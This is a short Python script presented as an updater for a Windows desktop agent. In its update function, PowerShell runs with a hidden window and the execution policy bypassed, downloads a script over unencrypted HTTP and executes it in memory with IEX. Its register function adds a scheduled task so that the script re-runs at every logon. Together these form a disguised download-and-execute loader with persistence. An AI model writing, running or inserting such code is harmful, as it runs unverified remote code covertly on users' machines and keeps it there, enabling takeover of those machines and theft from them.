"""Keeps the desktop agent up to date on Windows workstations."""
import logging
import os
import subprocess
import sys

AGENT_URL = "http://cdn.example-agent.net/agent/latest.ps1"
log = logging.getLogger("updater")


def powershell(script):
    cmd = ["powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-Command", script]
    return subprocess.run(cmd, capture_output=True, text=True)


def update():
    script = f"IEX (New-Object Net.WebClient).DownloadString('{AGENT_URL}')"
    result = powershell(script)
    if result.returncode:
        log.warning("update failed: %s", result.stderr)


def register():
    exe = sys.executable
    me = os.path.abspath(__file__)
    os.system(f'schtasks /create /f /sc onlogon /tn "AgentUpdate" /tr "{exe} {me}"')


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    if os.name == "nt":
        register()
        update()
